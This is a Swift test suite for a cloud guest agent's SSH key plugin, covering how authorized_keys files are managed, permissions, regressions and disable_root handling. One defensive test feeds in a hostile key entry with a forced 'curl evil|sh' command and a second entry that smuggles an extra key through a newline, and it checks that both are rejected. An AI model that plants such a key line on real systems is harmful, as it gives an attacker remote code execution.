import DataSources
import Foundation
import HostEffects
import Plugins
import TestSupport
import Testing

@Suite struct SSHKeysPluginTests {
    let rsa = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7 demo-key"
    let ed = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0m other"

    @Test func installsKeysWithModesAndOwnerKeepingUserLines() async throws {
        let root = try PluginTestContext.makeRoot()
        try root.write(
            "# my own\nssh-ed25519 AAAAC3Nza mine@laptop\n", to: "home/cloud-user/.ssh/authorized_keys", mode: 0o644)
        let metadata = PluginTestContext.sampleMetadata(keys: [
            PublicKeyEntry(name: "a", line: rsa + "\n"), PublicKeyEntry(name: "b", line: ed),
        ])
        let plugin = SSHKeysPlugin()
        #expect(try await plugin.planAndApply(PluginTestContext.context(metadata, root: root)) == .done)
        let text = try #require(root.read("home/cloud-user/.ssh/authorized_keys"))
        #expect(
            text == """
                # my own
                ssh-ed25519 AAAAC3Nza mine@laptop
                # BEGIN guest-agent managed keys
                \(rsa)
                \(ed)
                # END guest-agent managed keys

                """)
        let file = try root.attributes("home/cloud-user/.ssh/authorized_keys")
        let directory = try root.attributes("home/cloud-user/.ssh")
        #expect(file.mode == 0o600 && file.uid == 1000 && file.gid == 1000)
        #expect(directory.mode == 0o700 && directory.uid == 1000)

        // Second run with one key removed: only the managed block changes.
        let fewer = PluginTestContext.sampleMetadata(keys: [PublicKeyEntry(name: "b", line: ed)])
        _ = try await plugin.planAndApply(PluginTestContext.context(fewer, root: root))
        let after = try #require(root.read("home/cloud-user/.ssh/authorized_keys"))
        #expect(after.hasPrefix("# my own\nssh-ed25519 AAAAC3Nza mine@laptop\n# BEGIN"))
        #expect(!after.contains(rsa))
        #expect(after.components(separatedBy: "# BEGIN guest-agent").count == 2)
    }

    /// Regression (hostile probe): a Latin-1 comment made the file count as absent and the
    /// user's keys were deleted, exit 0.
    @Test func aFileThatIsNotUTF8KeepsEveryByte() async throws {
        let root = try PluginTestContext.makeRoot()
        let own =
            Data("ssh-ed25519 AAAAC3Nza ren".utf8) + Data([0xE9]) + Data("@desk\r\nssh-rsa AAAAB3Nza other@laptop".utf8)
        try root.write(own, to: "home/cloud-user/.ssh/authorized_keys", mode: 0o600)
        let metadata = PluginTestContext.sampleMetadata(keys: [PublicKeyEntry(name: "b", line: ed)])
        _ = try await SSHKeysPlugin().planAndApply(PluginTestContext.context(metadata, root: root))
        let after = try #require(
            FileManager.default.contents(atPath: root.path + "/home/cloud-user/.ssh/authorized_keys"))
        #expect(after.prefix(own.count) == own, "the user's keys must stay byte for byte")
        #expect(
            after.dropFirst(own.count)
                == Data("\n# BEGIN guest-agent managed keys\n\(ed)\n# END guest-agent managed keys\n".utf8))
    }

    /// Regression: a begin marker with no end deleted every key after it.
    @Test func anUnterminatedBlockIsLeftAloneWithAWarning() async throws {
        let root = try PluginTestContext.makeRoot()
        let own = "ssh-ed25519 AAAAC3Nza one@a\n# BEGIN guest-agent managed keys\nssh-ed25519 AAAAC3Nzb two@b\n"
        try root.write(own, to: "home/cloud-user/.ssh/authorized_keys", mode: 0o600)
        let log = LogCapture()
        let metadata = PluginTestContext.sampleMetadata(keys: [PublicKeyEntry(name: "b", line: rsa)])
        let plugin = SSHKeysPlugin()
        _ = try await plugin.planAndApply(PluginTestContext.context(metadata, root: root, logger: log.logger()))
        let after = try #require(root.read("home/cloud-user/.ssh/authorized_keys"))
        #expect(after.hasPrefix(own), "keys after the stray marker must survive")
        #expect(after.hasSuffix("# BEGIN guest-agent managed keys\n\(rsa)\n# END guest-agent managed keys\n"))
        #expect(
            log.text.contains("line 2: '# BEGIN guest-agent managed keys' has no matching end marker; left as it is"))
        // The next run finds its own complete block and changes nothing.
        _ = try await plugin.planAndApply(PluginTestContext.context(metadata, root: root))
        #expect(root.read("home/cloud-user/.ssh/authorized_keys") == after)
    }

    @Test func adminUsernameFromMetadataWinsAndRootIsOptional() async throws {
        let root = try PluginTestContext.makeRoot(users: ["cloud-user", "ops"])
        var metadata = PluginTestContext.sampleMetadata(keys: [PublicKeyEntry(name: "a", line: rsa)])
        metadata.meta["admin_username"] = "ops"
        var config = AgentConfig()
        config.sshKeysForRoot = true
        _ = try await SSHKeysPlugin().planAndApply(PluginTestContext.context(metadata, root: root, config: config))
        #expect(root.read("home/ops/.ssh/authorized_keys")?.contains(rsa) == true)
        #expect(root.read("root/.ssh/authorized_keys")?.contains(rsa) == true)
        #expect(root.read("home/cloud-user/.ssh/authorized_keys") == nil)
    }

    @Test func refusesSmuggledOptionsAndNewlines() async throws {
        let root = try PluginTestContext.makeRoot()
        let metadata = PluginTestContext.sampleMetadata(keys: [
            PublicKeyEntry(name: "forced", line: "command=\"curl evil|sh\" ssh-rsa AAAAB3Nza x"),
            PublicKeyEntry(name: "two-lines", line: "ssh-rsa AAAAB3Nza x\rssh-rsa AAAAB3Nzb y"),
            PublicKeyEntry(name: "good", line: ed),
        ])
        _ = try await SSHKeysPlugin().planAndApply(PluginTestContext.context(metadata, root: root))
        let text = try #require(root.read("home/cloud-user/.ssh/authorized_keys"))
        #expect(!text.contains("curl"))
        #expect(!text.contains("AAAAB3Nzb"))
        #expect(text.contains(ed))
    }

    @Test func missingUserIsANamedError() async throws {
        let root = try PluginTestContext.makeRoot(users: [])
        let metadata = PluginTestContext.sampleMetadata(keys: [PublicKeyEntry(name: "a", line: rsa)])
        await #expect {
            try await SSHKeysPlugin().planAndApply(PluginTestContext.context(metadata, root: root))
        } throws: {
            "\($0)"
                == "user 'cloud-user' does not exist in \(root.path)/etc/passwd (enable the users plugin or set 'username')"
        }
    }

    @Test func refusesToWriteThroughASymlinkedSSHDirectory() async throws {
        let root = try PluginTestContext.makeRoot()
        let outside = try TemporaryDirectory()
        try FileManager.default.createSymbolicLink(
            atPath: root.path + "/home/cloud-user/.ssh", withDestinationPath: outside.path)
        let metadata = PluginTestContext.sampleMetadata(keys: [PublicKeyEntry(name: "a", line: rsa)])
        await #expect(throws: HostError.self) {
            try await SSHKeysPlugin().planAndApply(PluginTestContext.context(metadata, root: root))
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: outside.path).isEmpty)
    }

    @Test func skipsWithoutKeys() async throws {
        let root = try PluginTestContext.makeRoot()
        let context = PluginTestContext.context(PluginTestContext.sampleMetadata(keys: []), root: root)
        #expect(try await SSHKeysPlugin().describedPlan(context) == .skip("metadata has no SSH keys"))
    }
}

/// cloud-config `disable_root`, as cloud-init does it: `false` gives root the keys, `true` gives
/// root the keys behind a command that names the user to log in as.
@Suite struct DisableRootTests {
    static func run(disableRoot: Bool, root: TemporaryDirectory) async throws {
        let key = try await KeyFactory.publicLine(type: "ed25519", in: try TemporaryDirectory())
        let metadata = PluginTestContext.sampleMetadata(keys: [PublicKeyEntry(name: "k", line: key)])
        let context = PluginTestContext.context(
            metadata, root: root, userDataOverrides: UserDataOverrides(disableRoot: disableRoot))
        #expect(try await SSHKeysPlugin().planAndApply(context) == .done)
        #expect(root.read("home/cloud-user/.ssh/authorized_keys")?.contains(key) == true)
    }

    @Test func falseInstallsTheKeysForRoot() async throws {
        let root = try PluginTestContext.makeRoot()
        try await Self.run(disableRoot: false, root: root)
        let lines = (root.read("root/.ssh/authorized_keys") ?? "").split(separator: "\n")
        #expect(lines.contains { $0.hasPrefix("ssh-ed25519 ") }, "\(lines)")
    }

    @Test(.enabled(if: Program.which("ssh-keygen") != nil, "needs ssh-keygen"))
    func trueInstallsThemBehindTheCommandThatNamesTheUser() async throws {
        let root = try PluginTestContext.makeRoot()
        try await Self.run(disableRoot: true, root: root)
        let text = try #require(root.read("root/.ssh/authorized_keys"))
        let line = try #require(text.split(separator: "\n").first { $0.contains("ssh-ed25519") })
        #expect(
            line.hasPrefix(
                #"no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo 'Please login as the user \"cloud-user\" rather than the user \"root\".';echo;sleep 10;exit 142" ssh-ed25519 "#
            ), "\(line)")
        // OpenSSH reads the line with its options (ssh-keygen parses authorized_keys as sshd does).
        let listed = try await Program.tool("ssh-keygen", ["-l", "-f", root.path + "/root/.ssh/authorized_keys"])
        #expect(listed.status == 0 && listed.standardOutput.contains("ED25519"), "\(listed.standardError)")
    }
}
